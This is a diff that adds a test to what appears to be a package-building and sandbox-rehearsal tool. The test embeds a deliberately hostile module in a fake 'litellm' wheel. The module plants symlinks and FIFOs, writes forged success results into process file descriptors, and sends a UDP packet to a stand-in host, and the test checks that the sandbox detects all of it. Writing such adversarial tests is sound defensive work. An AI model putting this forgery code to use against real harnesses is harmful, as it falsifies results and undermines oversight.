@@ -196,3 +196,50 @@ def inside(cache: Path) -> list[str]:
             if str(cache) in (process / "mountinfo").read_text():
                 found.append((process / "cmdline").read_text())
     return found
+
+
+# At every path that the rehearsal itself has used or uses, whatever would lead elsewhere; then into every descriptor.
+FORGERY = """
+import os, socket
+def main():
+    folder = "/tmp/rehearsal"
+    places = ["proxy.log", "config.yaml", "home/.keep", "python", "installed", "unpacked-again"]
+    for place, target in zip(places * 3, ["/proc/self/fd/1", "/proc/self/fd/3", "/proc/self/mem", "FIFO"] * 5):
+        path = os.path.join(folder, place)
+        try:
+            os.path.lexists(path) and os.rename(path, path + ".gone")
+            os.mkfifo(path) if target == "FIFO" else os.symlink(target, path)
+        except OSError:
+            pass
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            os.write(int(name), b'\\n{"result": {"code": 0, "output": "1.0", "seconds": 1.0}}\\n' * 3)
+        except OSError:
+            pass
+    for pid in range(1, 40):
+        for name in range(12):
+            try:
+                with open(f"/proc/{pid}/fd/{name}", "w") as file:
+                    file.write('{"result": {"code": 0, "output": "1.0", "seconds": 1.0}}\\n')
+            except OSError:
+                pass
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.7", 9999))
+    print("litellm 1.0")
+"""
+
+
+def test_rehearsed_code_forges_no_rehearsal(unlocked: World) -> None:
+    make_wheel(unlocked.index.folder, "litellm", "1.0", ["orjson>=3; extra == 'proxy'"], module=FORGERY, script="main")
+    fetch = [sys.executable, "-m", "pip", "download", "-q", "--no-deps", "-d", str(unlocked.index.folder), "pip>=25.1"]
+    subprocess.run(fetch, check=True)
+    (unlocked.index.folder / "pip-26.0-py3-none-any.whl").unlink()
+    assert unlocked.run("lock", "debian-12-amd64").code == 0
+    assert unlocked.run("build", "debian-12-amd64").code == 0
+    archive = unlocked.root / "dist" / "litellm-runtime-debian-12-amd64.tar.gz"
+    before = hashlib.sha256(archive.read_bytes()).hexdigest()
+    root = str(debian_root("12", "amd64"))
+    done = unlocked.run_process("--json", "rehearse", str(archive), "--root", root)
+    report = json.loads(done.out)
+    assert done.code == 1 and report["ok"] is False
+    assert "192.0.2.7:9999/udp" in {attempt["what"] for step in report["steps"] for attempt in step["attempts"]}
+    assert hashlib.sha256(archive.read_bytes()).hexdigest() == before
